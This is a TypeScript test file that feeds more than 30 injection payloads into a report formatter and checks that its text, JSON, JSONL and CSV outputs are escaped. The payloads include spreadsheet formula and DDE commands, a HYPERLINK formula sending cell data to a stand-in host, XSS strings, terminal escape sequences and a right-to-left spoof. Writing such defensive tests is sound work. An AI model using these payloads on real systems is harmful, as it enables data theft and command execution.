import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Outcome, Report } from '../../src/model.ts';
import { formatReport } from '../../src/report/formats.ts';
import { CSV_FIELDS, cellsOf, recordOf } from '../../src/report/record.ts';
import { unguardCell } from '../../src/util/csv.ts';
import { collect, FELL_BACK, OPTIONS, outcome, SPLIT, TROUBLED } from './examples.ts';

const PAYLOADS: readonly (readonly [label: string, payload: string])[] = [
  ['formula', '=1+1'],
  ['command in a formula', "=cmd|' /C calc'!A0"],
  ['formula with plus', '+1+cmd'],
  ['formula with minus', '-2+3'],
  ['formula with at', '@SUM(1+1)'],
  ['tab before a formula', '\t=1+1'],
  ['CR before a formula', '\r=1+1'],
  ['newline before a formula', '\n=1+1'],
  ['NUL before a formula', '\0=1+1'],
  ['full-width equals', '＝1+1'],
  ['full-width plus and minus', '＋1－2'],
  ['full-width at', '＠x'],
  ['link in a formula', '=HYPERLINK("http://evil.test?x="&A1,"click")'],
  ['quote that is there already', "'=1+1"],
  ['script', '<script>alert(1)</script>'],
  ['script that closes the title', '</title><script>alert(1)</script>'],
  ['image with an error handler', '<img src=x onerror=alert(1)>'],
  ['end of an attribute', '"><svg onload=alert(1)>'],
  ['end of an attribute in single quotes', "' onmouseover='alert(1)"],
  ['entity', '&lt;b&gt;&#60;'],
  ['comment', '<!-- x --><![CDATA[y]]>'],
  ['style end', '</style><style>*{display:none}</style>'],
  ['address of a script', 'javascript:alert(1)'],
  ['clipboard (OSC 52)', '\u001b]52;c;ZXZpbA==\u0007'],
  ['link (OSC 8)', '\u001b]8;;http://evil.test\u001b\\click\u001b]8;;\u001b\\'],
  ['clear screen', '\u001b[2J\u001b[H'],
  ['C1 control sequence', '\u009b2J\u0090x\u009c'],
  ['carriage return over the line', 'failed\rall is well   '],
  ['backspaces and bell', 'abc\b\b\bxyz\u0007\u007f'],
  ['right-to-left override', 'a\u202egpj.exe\u2066x\u2069'],
  ['line separators', 'a\u2028b\u2029c\u0085d'],
  ['newline and a forged line', 'x\n{"level":"error"}\n  accepted  999999'],
  ['byte order mark and half a pair', '\ufeffa\ud83db'],
  ['CSV syntax', 'a","b\r\n"c,d'],
  ['key of every object', '__proto__'],
];

/** What a terminal may be given: no control but tab and newline, nothing that turns the line round. */
const PRINTABLE =
  /^[\t\n\x20-\x7e\u00a0-\u061b\u061d-\u200d\u2010-\u2027\u202f-\u2065\u206a-\ufefe\uff00-\uffff\u{10000}-\u{10ffff}]*$/u;

/** The payload wherever text from outside can be. */
function attack(payload: string): { report: Report; outcomes: readonly Outcome[] } {
  const report: Report = {
    ...TROUBLED,
    run: payload,
    campaign: payload,
    environment: payload,
    occurrence: payload,
    ledger: payload,
    startedAt: payload,
    halt: { rule: 'doubt', message: payload, next: payload },
    reasons: { rejected: Object.fromEntries([[payload, 12]]) },
    sms: { ...TROUBLED.sms, encodings: Object.fromEntries([[payload, 2]]) },
    deliveries: Object.fromEntries([[payload, 3]]),
    steps: SPLIT.steps ?? [],
    variants: SPLIT.variants?.map((variant) => ({ ...variant, name: payload })) ?? [],
    significance: { by: 'accepted', p: 0.01, test: 'fisher', enough: true, best: payload },
  };
  const fields = {
    key: payload,
    variant: payload,
    reason: payload,
    messageId: payload,
    error: payload,
    updatedAt: payload,
  };
  const outcomes = [
    outcome({ ...fields, to: payload, outcome: 'rejected' }),
    outcome({
      ...fields,
      outcome: 'in-doubt',
      to: null,
      steps: FELL_BACK.steps?.map((step) => ({ ...step, ...fields })) ?? [],
    }),
  ];
  return { report, outcomes };
}

const options = (payload: string) => ({
  ...OPTIONS,
  colour: false,
  referenceOf: () => payload,
  campaignFile: payload,
  currency: payload,
});

it('is a list of at least 30', () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
});

describe.each(PAYLOADS)('%s', (_label, payload) => {
  const { report, outcomes } = attack(payload);
  const format = (name: Parameters<typeof formatReport>[0]) =>
    collect(formatReport(name, report, [outcomes], options(payload)));

  it('text: a terminal obeys nothing of it, and it adds no line', async () => {
    const text = await format('text');
    expect(text).toMatch(PRINTABLE);
    const harmless = attack('x');
    const expected = await collect(formatReport('text', harmless.report, [harmless.outcomes], options('x')));
    const ends = /^ {2}(?:sent|delivered|not delivered|unclear|not sent|accepted) +[\d,]/gm;
    expect(count(expected, ends)).toBeGreaterThan(3);
    expect(count(text, ends)).toBe(count(expected, ends));
    expect(text.split('\n')[1]).toMatch(/^Halted: /);
  });

  it('json: exact, and nothing for a terminal to obey', async () => {
    const text = await format('json');
    expect(text).toMatch(PRINTABLE);
    expect(JSON.parse(text)).toEqual(report);
  });

  it('jsonl: exact, one line per row', async () => {
    const text = await format('jsonl');
    expect(text).toMatch(PRINTABLE);
    const lines = text.trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toEqual(outcomes.map((one) => recordOf(one, () => payload)));
  });

  it('csv: no spreadsheet runs it, and it reads back exactly', async () => {
    const rows: Record<string, string>[] = parse(await format('csv'), { columns: true });
    expect(rows).toHaveLength(2);
    for (const [index, row] of rows.entries()) {
      const one = outcomes[index] ?? outcome({});
      const cells = cellsOf(one, () => payload);
      for (const [column, field] of CSV_FIELDS.entries()) {
        const cell = row[field] ?? '';
        expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
        expect(unguardCell(cell)).toBe(Buffer.from(String(cells[column] ?? '')).toString());
      }
    }
  });
});

function count(text: string, pattern: RegExp): number {
  return text.match(pattern)?.length ?? 0;
}
